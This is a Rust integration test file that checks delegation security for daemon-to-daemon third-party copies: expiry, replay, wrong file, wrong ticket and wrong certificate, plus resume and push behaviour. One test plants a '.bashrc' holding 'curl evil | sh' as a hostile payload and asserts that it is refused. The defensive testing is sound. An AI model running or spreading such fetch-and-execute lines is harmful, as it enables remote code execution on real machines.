//! Third-party copies between two daemons in this process (PROTOCOL.md
//! §8.13): the copy goes from one daemon to the other while the client
//! only orders it, and a delegation that has expired, is replayed, or is
//! used for another file is refused before any data moves.

use std::path::Path;
use std::sync::Arc;

use tern_engine::client::{ClientOptions, Endpoint};
use tern_engine::fsio::{FsSink, FsSource, Root};
use tern_engine::server::{LiveSessions, LiveTpc, ServerOptions, serve};
use tern_engine::session::open::PeerPass;
use tern_engine::tls::ServerIdentity;
use tern_engine::tpc::{
    Accepted, DEFAULT_TTL, Dialing, Followed, Leg, TpcMode, TpcOptions, TpcRequest, delegation,
    dial, session_of, sign, third_party,
};
use tern_engine::transfer::Progress;
use tern_proto::Protect;
use tern_proto::delegation::{Dialer, TpcRole};
use tern_testkit::client as kit;
use tern_testkit::files::{file_difference, seeded_random_file};

struct Daemon {
    ep: Endpoint,
    /// What it shows of its sessions (the dashboard's live and recent
    /// transfers).
    live: Arc<LiveSessions>,
    _state: tempfile::TempDir,
}

async fn daemon(root: &Path) -> Daemon {
    let state = tempfile::tempdir().unwrap();
    let identity = ServerIdentity::load_or_create(state.path()).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let live = Arc::new(LiveSessions::default());
    let mut opts = ServerOptions::new(root.to_path_buf());
    opts.live = Some(live.clone());
    tokio::spawn(async move {
        serve(listener, &identity, opts, std::future::pending())
            .await
            .unwrap();
    });
    Daemon {
        ep: Endpoint {
            host: "127.0.0.1".into(),
            port,
        },
        live,
        _state: state,
    }
}

fn client() -> ClientOptions {
    kit::options(4, Protect::Private, 1 << 20)
}

/// Two daemons, the source's root holding `big.bin` (`size` bytes) and
/// `secret.bin`, the destination's an empty `in/`.
struct Pair {
    a: Daemon,
    b: Daemon,
    a_root: tempfile::TempDir,
    b_root: tempfile::TempDir,
}

impl Pair {
    async fn new(size: u64) -> Pair {
        let (a_root, b_root) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        seeded_random_file(&a_root.path().join("big.bin"), size, 7);
        std::fs::write(a_root.path().join("secret.bin"), b"not for you").unwrap();
        std::fs::create_dir(b_root.path().join("in")).unwrap();
        let (a, b) = (daemon(a_root.path()).await, daemon(b_root.path()).await);
        Pair {
            a,
            b,
            a_root,
            b_root,
        }
    }

    fn request(&self) -> TpcRequest {
        TpcRequest {
            source: self.a.ep.clone(),
            sources: vec!["big.bin".into()],
            recursive: false,
            dest: self.b.ep.clone(),
            dest_path: "in/".into(),
        }
    }

    /// The client's two legs with one delegation (`Dialer::Either`) both
    /// daemons accepted, and what each answered (source, destination).
    async fn offered(&self) -> (Leg, Leg, Accepted, Accepted) {
        let mut a = Leg::open(&self.a.ep, &client()).await.unwrap();
        let mut b = Leg::open(&self.b.ep, &client()).await.unwrap();
        let d = delegation(&self.request(), (&a, &b), Dialer::Either, None, DEFAULT_TTL);
        let signed = sign(&d);
        let at_a = a.offer(TpcRole::Source, &signed).await.unwrap();
        let at_b = b.offer(TpcRole::Dest, &signed).await.unwrap();
        (a, b, at_a, at_b)
    }

    /// The client options of a dialer that is B: it shows B's own
    /// certificate, as B does when it dials.
    fn as_b(&self) -> ClientOptions {
        let mut o = client();
        o.client_cert = Some(
            ServerIdentity::load_or_create(self.b._state.path())
                .unwrap()
                .as_client(),
        );
        o
    }

    /// What is in the destination's `in/`, partial files included.
    fn arrived(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.b_root.path().join("in"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_copy_goes_from_daemon_to_daemon_while_the_client_only_orders_it() {
    let size = 48 << 20;
    let pair = Pair::new(size).await;
    let progress = Arc::new(Progress::default());
    let opts = TpcOptions {
        client: client(),
        ttl: DEFAULT_TTL,
        mode: TpcMode::Auto,
        source_once: None,
        dest_once: None,
    };
    let outcome = third_party(&pair.request(), &opts, progress.clone())
        .await
        .unwrap();
    assert_eq!((outcome.bytes, outcome.files), (size, 1));
    assert_eq!(
        file_difference(
            pair.a_root.path().join("big.bin"),
            pair.b_root.path().join("in/big.bin")
        ),
        None
    );
    // The kernel's count of the client's two control connections: the
    // orders and the reports, nowhere near the file.
    assert!(
        outcome.client_bytes > 0 && outcome.client_bytes < 1 << 20,
        "{} bytes through the client",
        outcome.client_bytes
    );
    assert_eq!(outcome.data_path.1.port(), pair.a.ep.port, "{outcome:?}");
    assert_eq!(
        progress.bytes.load(std::sync::atomic::Ordering::Relaxed),
        size
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_expired_delegation_is_refused_by_both_daemons() {
    let pair = Pair::new(1 << 20).await;
    let mut a = Leg::open(&pair.a.ep, &client()).await.unwrap();
    let mut b = Leg::open(&pair.b.ep, &client()).await.unwrap();
    let mut d = delegation(&pair.request(), (&a, &b), Dialer::Dest, None, DEFAULT_TTL);
    d.issued_at_ms -= 120_000;
    d.not_after_ms = d.issued_at_ms + 60_000;
    let signed = sign(&d);
    for (leg, role) in [(&mut a, TpcRole::Source), (&mut b, TpcRole::Dest)] {
        let e = leg.offer(role, &signed).await.unwrap_err().to_string();
        assert!(e.contains("the delegation expired"), "{e}");
    }
    assert!(pair.arrived().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_replayed_delegation_is_refused() {
    let pair = Pair::new(1 << 20).await;
    let mut a = Leg::open(&pair.a.ep, &client()).await.unwrap();
    let b = Leg::open(&pair.b.ep, &client()).await.unwrap();
    let d = delegation(&pair.request(), (&a, &b), Dialer::Dest, None, DEFAULT_TTL);
    let signed = sign(&d);
    let accepted = a.offer(TpcRole::Source, &signed).await.unwrap();
    // The same delegation again on the same connection's daemon, but
    // another connection: not the one it was made for.
    let mut again = Leg::open(&pair.a.ep, &client()).await.unwrap();
    let e = again
        .offer(TpcRole::Source, &signed)
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("made on another connection"), "{e}");
    // Presented by a dialer twice: the first session is served, the
    // second refused before it opens.
    let pass = PeerPass {
        delegation: signed,
        ticket: accepted.ticket,
    };
    let into = |dir: &Path| {
        Dialing::Pull(Arc::new(
            FsSink::new(Root::Ambient, dir.to_path_buf(), 1).unwrap(),
        ))
    };
    let (first, second) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let at = (pair.a.ep.host.as_str(), pair.a.ep.port, &[][..]);
    let progress = Arc::new(Progress::default());
    dial(
        &d,
        at,
        pass.clone(),
        pair.as_b(),
        into(first.path()),
        progress.clone(),
    )
    .await
    .unwrap();
    assert!(first.path().join("big.bin").exists());
    let e = dial(&d, at, pass, pair.as_b(), into(second.path()), progress)
        .await
        .unwrap_err()
        .to_string();
    assert!(e.contains("already used"), "{e}");
    assert_eq!(std::fs::read_dir(second.path()).unwrap().count(), 0);
    drop(a);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_delegation_used_for_another_file_is_refused() {
    let pair = Pair::new(1 << 20).await;
    let mut a = Leg::open(&pair.a.ep, &client()).await.unwrap();
    let b = Leg::open(&pair.b.ep, &client()).await.unwrap();
    let d = delegation(&pair.request(), (&a, &b), Dialer::Dest, None, DEFAULT_TTL);
    let signed = sign(&d);
    let accepted = a.offer(TpcRole::Source, &signed).await.unwrap();
    // A dialer that holds the delegation for big.bin asks for secret.bin.
    let mut other = d.clone();
    other.sources = vec!["secret.bin".into()];
    let pass = PeerPass {
        delegation: signed,
        ticket: accepted.ticket,
    };
    let dir = tempfile::tempdir().unwrap();
    let sink = Dialing::Pull(Arc::new(
        FsSink::new(Root::Ambient, dir.path().to_path_buf(), 1).unwrap(),
    ));
    let at = (pair.a.ep.host.as_str(), pair.a.ep.port, &[][..]);
    let e = dial(
        &other,
        at,
        pass,
        pair.as_b(),
        sink,
        Arc::new(Progress::default()),
    )
    .await
    .unwrap_err()
    .to_string();
    assert!(
        e.contains("the delegation covers reading big.bin, not reading secret.bin"),
        "{e}"
    );
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
    drop(a);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wrong_ticket_or_a_delegation_never_given_opens_nothing() {
    let pair = Pair::new(1 << 20).await;
    let mut a = Leg::open(&pair.a.ep, &client()).await.unwrap();
    let b = Leg::open(&pair.b.ep, &client()).await.unwrap();
    let d = delegation(&pair.request(), (&a, &b), Dialer::Dest, None, DEFAULT_TTL);
    let signed = sign(&d);
    let at = (pair.a.ep.host.as_str(), pair.a.ep.port, &[][..]);
    let dir = tempfile::tempdir().unwrap();
    let sink = || {
        Dialing::Pull(Arc::new(
            FsSink::new(Root::Ambient, dir.path().to_path_buf(), 1).unwrap(),
        ))
    };
    // Never offered to A.
    let pass = PeerPass {
        delegation: signed.clone(),
        ticket: [1; 16],
    };
    let e = dial(
        &d,
        at,
        pass,
        client(),
        sink(),
        Arc::new(Progress::default()),
    )
    .await
    .unwrap_err()
    .to_string();
    assert!(e.contains("never given that delegation"), "{e}");
    // Offered, but presented with another ticket.
    let at_a = a.offer(TpcRole::Source, &signed).await.unwrap();
    let pass = PeerPass {
        delegation: signed.clone(),
        ticket: [2; 16],
    };
    let e = dial(
        &d,
        at,
        pass,
        client(),
        sink(),
        Arc::new(Progress::default()),
    )
    .await
    .unwrap_err()
    .to_string();
    assert!(e.contains("not the one given for it"), "{e}");
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
    // The right ticket, copied by someone who is not the destination: a
    // connection without B's certificate, or with A's own, is refused,
    // and the ticket is not spent by it.
    let a_identity = ServerIdentity::load_or_create(pair.a._state.path()).unwrap();
    let pass = PeerPass {
        delegation: signed.clone(),
        ticket: at_a.ticket,
    };
    for cert in [None, Some(a_identity.as_client())] {
        let mut thief = client();
        thief.client_cert = cert;
        let progress = Arc::new(Progress::default());
        let e = dial(&d, at, pass.clone(), thief, sink(), progress)
            .await
            .unwrap_err()
            .to_string();
        assert!(e.contains("the daemon dialing showed"), "{e}");
    }
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);
    // B itself, with the same pass, still gets in.
    dial(
        &d,
        at,
        pass,
        pair.as_b(),
        sink(),
        Arc::new(Progress::default()),
    )
    .await
    .unwrap();
    assert_eq!(
        file_difference(
            pair.a_root.path().join("big.bin"),
            dir.path().join("big.bin")
        ),
        None
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_source_pushes_when_told_to_and_when_the_destination_cannot_reach_it() {
    let size = 4 << 20;
    let pair = Pair::new(size).await;
    // --tpc push: the source dials.
    let opts = TpcOptions {
        client: client(),
        ttl: DEFAULT_TTL,
        mode: TpcMode::Push,
        source_once: None,
        dest_once: None,
    };
    let pushed = third_party(&pair.request(), &opts, Arc::new(Progress::default()))
        .await
        .unwrap();
    assert_eq!((pushed.direction, pushed.bytes), ("push", size));
    assert_eq!(pushed.data_path.1.port(), pair.b.ep.port, "{pushed:?}");
    // auto, with the destination told of a source address it cannot reach:
    // it says so and keeps its end, and the source then pushes.
    std::fs::remove_file(pair.b_root.path().join("in/big.bin")).unwrap();
    let (mut a, mut b, at_a, at_b) = pair.offered().await;
    let closed = tern_testkit::net::free_port();
    let nowhere = Endpoint {
        host: "127.0.0.1".into(),
        port: closed,
    };
    let unreachable = Accepted {
        ticket: at_a.ticket,
        addresses: vec![],
    };
    b.order_dial(&nowhere, &unreachable, &session_of(&client()))
        .await
        .unwrap();
    let progress = Progress::default();
    let followed = b.follow(&mut a, &progress).await.unwrap();
    assert!(matches!(followed, Followed::Unreachable(_)), "{followed:?}");
    a.order_dial(&pair.b.ep, &at_b, &session_of(&client()))
        .await
        .unwrap();
    let followed = a.follow(&mut b, &progress).await.unwrap();
    assert!(matches!(followed, Followed::Done(_)), "{followed:?}");
    b.done().await;
    assert_eq!(
        file_difference(
            pair.a_root.path().join("big.bin"),
            pair.b_root.path().join("in/big.bin")
        ),
        None
    );
    // The dial that reached nobody was no session: the destination lists
    // only the sessions the source opened with it, both complete.
    for _ in 0..100 {
        if pair.b.live.recent().len() == 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let at_b: Vec<_> = pair.b.live.recent().iter().map(|r| r.outcome).collect();
    assert_eq!(
        at_b,
        ["completed", "completed"],
        "{:?}",
        pair.b.live.recent()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_end_dials_once_and_says_only_that_it_could_not_reach() {
    let pair = Pair::new(1 << 20).await;
    let (mut a, mut b, at_a, _) = pair.offered().await;
    let nowhere = Endpoint {
        host: "127.0.0.1".into(),
        port: tern_testkit::net::free_port(),
    };
    let knock = Accepted {
        ticket: at_a.ticket,
        addresses: vec!["127.0.0.1:9".parse().unwrap(); 40],
    };
    let progress = Progress::default();
    b.order_dial(&nowhere, &knock, &session_of(&client()))
        .await
        .unwrap();
    match b.follow(&mut a, &progress).await.unwrap() {
        Followed::Unreachable(why) => {
            // At most MAX_PATHS addresses besides the name, and no detail of
            // what answered where.
            assert_eq!(
                why,
                "no connection to the other daemon at any of the 17 address(es) given"
            );
        }
        other => panic!("{other:?}"),
    }
    b.order_dial(&nowhere, &knock, &session_of(&client()))
        .await
        .unwrap();
    let e = b.follow(&mut a, &progress).await.unwrap_err().to_string();
    assert!(e.contains("dialed once already"), "{e}");
    assert!(pair.arrived().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_daemon_at_the_name_given_is_passed_over_for_the_next_address() {
    let pair = Pair::new(2 << 20).await;
    let (mut a, mut b, at_a, _) = pair.offered().await;
    let stranger_root = tempfile::tempdir().unwrap();
    let stranger = daemon(stranger_root.path()).await;
    // The name the client gives reaches a daemon that is not A; A's own
    // address comes next.
    let via = Accepted {
        ticket: at_a.ticket,
        addresses: vec![format!("127.0.0.1:{}", pair.a.ep.port).parse().unwrap()],
    };
    b.order_dial(&stranger.ep, &via, &session_of(&client()))
        .await
        .unwrap();
    let done = b.follow(&mut a, &Progress::default()).await.unwrap();
    assert!(matches!(done, Followed::Done(_)), "{done:?}");
    assert_eq!(
        file_difference(
            pair.a_root.path().join("big.bin"),
            pair.b_root.path().join("in/big.bin")
        ),
        None
    );
    assert!(
        stranger.live.recent().is_empty(),
        "nothing was opened at the stranger"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pushing_source_lands_only_the_names_the_delegation_covers() {
    let pair = Pair::new(1 << 20).await;
    let (a, mut b) = (
        Leg::open(&pair.a.ep, &client()).await.unwrap(),
        Leg::open(&pair.b.ep, &client()).await.unwrap(),
    );
    let d = delegation(&pair.request(), (&a, &b), Dialer::Source, None, DEFAULT_TTL);
    let signed = sign(&d);
    let at_b = b.offer(TpcRole::Dest, &signed).await.unwrap();
    // A hostile source (A's own key, the right delegation and ticket)
    // pushes a file the delegation does not name: .bashrc, not big.bin.
    let evil = tempfile::tempdir().unwrap();
    std::fs::write(evil.path().join(".bashrc"), b"curl evil | sh\n").unwrap();
    let mut as_a = client();
    as_a.client_cert = Some(
        ServerIdentity::load_or_create(pair.a._state.path())
            .unwrap()
            .as_client(),
    );
    let pushing = Dialing::Push(Arc::new(FsSource::new(
        Root::Ambient,
        vec![evil.path().join(".bashrc")],
        false,
    )));
    let pass = PeerPass {
        delegation: signed,
        ticket: at_b.ticket,
    };
    let at = (pair.b.ep.host.as_str(), pair.b.ep.port, &[][..]);
    let pushed = dial(&d, at, pass, as_a, pushing, Arc::new(Progress::default())).await;
    assert!(pushed.is_err(), "a name outside the delegation was taken");
    assert!(
        !pair.b_root.path().join("in/.bashrc").exists(),
        "{:?}",
        pair.arrived()
    );
    drop(a);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_daemons_session_runs_with_the_clients_choices() {
    let size = 6 << 20;
    let pair = Pair::new(size).await;
    let run = |client: ClientOptions| {
        let request = pair.request();
        async move {
            let opts = TpcOptions {
                client,
                ttl: DEFAULT_TTL,
                mode: TpcMode::Pull,
                source_once: None,
                dest_once: None,
            };
            third_party(&request, &opts, Arc::new(Progress::default())).await
        }
    };
    // -P 3 (fixed): three streams between the daemons, not the dialer's own
    // default.
    let mut three = kit::options(3, Protect::Private, 1 << 20);
    three.tuning.auto_streams = false;
    three.tuning.streams_from_rtt = false;
    let first = run(three.clone()).await.unwrap();
    assert_eq!((first.bytes, first.streams), (size, 3), "{first:?}");
    // Each daemon lists its end as a third-party session: the source was
    // dialed and sent, the destination dialed and received.
    // (The source's session may end a moment after the destination's.)
    for _ in 0..100 {
        if !pair.a.live.recent().is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let ends = [&pair.a, &pair.b].map(|d| {
        let r = d.live.recent();
        assert_eq!(r.len(), 1, "{r:?}");
        (r[0].direction, r[0].third_party, r[0].outcome, r[0].bytes)
    });
    assert_eq!(
        ends,
        [
            (
                "send",
                Some(LiveTpc {
                    role: "source",
                    dialed: false
                }),
                "completed",
                size
            ),
            (
                "receive",
                Some(LiveTpc {
                    role: "destination",
                    dialed: true
                }),
                "completed",
                size
            ),
        ]
    );
    // The copy is now at the destination: the client's skip rule decides
    // whether it moves again.
    let skipped = run(three.clone()).await.unwrap();
    assert_eq!(skipped.bytes, 0, "skipped by size and time: {skipped:?}");
    let mut again = three.clone();
    again.choices.skip_existing = tern_proto::SkipExisting::Never;
    let resent = run(again).await.unwrap();
    assert_eq!(resent.bytes, size, "--skip-existing never: {resent:?}");
    assert_eq!(
        file_difference(
            pair.a_root.path().join("big.bin"),
            pair.b_root.path().join("in/big.bin")
        ),
        None
    );
    // What the dialer may not do is refused before any data moves, in words.
    let mut odd = three;
    odd.tuning.congestion = "no-such-algorithm".into();
    let refused = run(odd).await.unwrap_err().to_string();
    assert!(
        refused.contains("congestion control") && refused.contains("no-such-algorithm"),
        "{refused}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_client_leaving_only_the_source_stops_the_copy() {
    let size = 48 << 20;
    let pair = Pair::new(size).await;
    let (a, mut b, at_a, _) = pair.offered().await;
    // Paced at 40 Mbit/s: about ten seconds, so the copy is surely running
    // when the client leaves.
    let mut slow = client();
    slow.rate_limit = Some(40_000_000);
    b.order_dial(&pair.a.ep, &at_a, &session_of(&slow))
        .await
        .unwrap();
    let moving = |l: &LiveSessions| l.snapshot().iter().any(|s| s.bytes > (1 << 20));
    for _ in 0..200 {
        if moving(&pair.a.live) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(moving(&pair.a.live), "the copy never got going");
    // The client goes from the source only; its connection to the
    // destination stays (an idle one stands in for the source's in
    // `follow`).
    drop(a);
    let mut idle = Leg::open(&pair.b.ep, &client()).await.unwrap();
    let ended = b.follow(&mut idle, &Progress::default()).await;
    assert!(
        ended.is_err(),
        "the copy went on without its client at the source: {ended:?}"
    );
    for _ in 0..100 {
        if !pair.a.live.recent().is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let at_a: Vec<_> = pair
        .a
        .live
        .recent()
        .iter()
        .map(|r| (r.outcome, r.bytes < size))
        .collect();
    assert_eq!(
        at_a,
        [("failed", true)],
        "the source's session stopped short"
    );
    assert!(
        !pair.b_root.path().join("in/big.bin").exists(),
        "nothing lands at its final name: {:?}",
        pair.arrived()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_copy_stopped_by_its_client_resumes_where_it_stopped() {
    let size = 48 << 20;
    let pair = Pair::new(size).await;
    // Paced at 40 Mbit/s (about ten seconds): the client goes mid-copy,
    // as Ctrl-C would have it.
    let mut slow = client();
    slow.rate_limit = Some(40_000_000);
    let opts = |client| TpcOptions {
        client,
        ttl: DEFAULT_TTL,
        mode: TpcMode::Pull,
        source_once: None,
        dest_once: None,
    };
    let progress = Arc::new(Progress::default());
    let first = {
        let (req, opts, progress) = (pair.request(), opts(slow), progress.clone());
        tokio::spawn(async move { third_party(&req, &opts, progress).await })
    };
    let landed = |p: &Progress| p.bytes.load(std::sync::atomic::Ordering::Relaxed) > 12 << 20;
    for _ in 0..300 {
        if landed(&progress) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(landed(&progress), "the copy never got a quarter of the way");
    first.abort();
    // The destination stops, keeping what it has for the next attempt.
    let stopped = |l: &LiveSessions| l.recent().iter().any(|r| r.outcome == "failed");
    for _ in 0..200 {
        if stopped(&pair.b.live) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(
        stopped(&pair.b.live),
        "the destination went on without its client"
    );
    assert!(!pair.b_root.path().join("in/big.bin").exists());
    let again = third_party(
        &pair.request(),
        &opts(client()),
        Arc::new(Progress::default()),
    )
    .await
    .unwrap();
    assert_eq!(again.bytes, size);
    assert!(
        again.bytes_resumed >= 8 << 20 && again.bytes_resumed < size,
        "resumed {} of {size} bytes",
        again.bytes_resumed
    );
    assert_eq!(
        file_difference(
            pair.a_root.path().join("big.bin"),
            pair.b_root.path().join("in/big.bin")
        ),
        None
    );
    // The source sent only what was missing the second time.
    let sent: Vec<u64> = pair
        .a
        .live
        .recent()
        .iter()
        .map(|r| r.per_stream_bytes.iter().sum())
        .collect();
    assert_eq!(sent.len(), 2, "{sent:?}");
    assert!(
        sent[1] <= size - again.bytes_resumed + (4 << 20),
        "{sent:?}"
    );
}
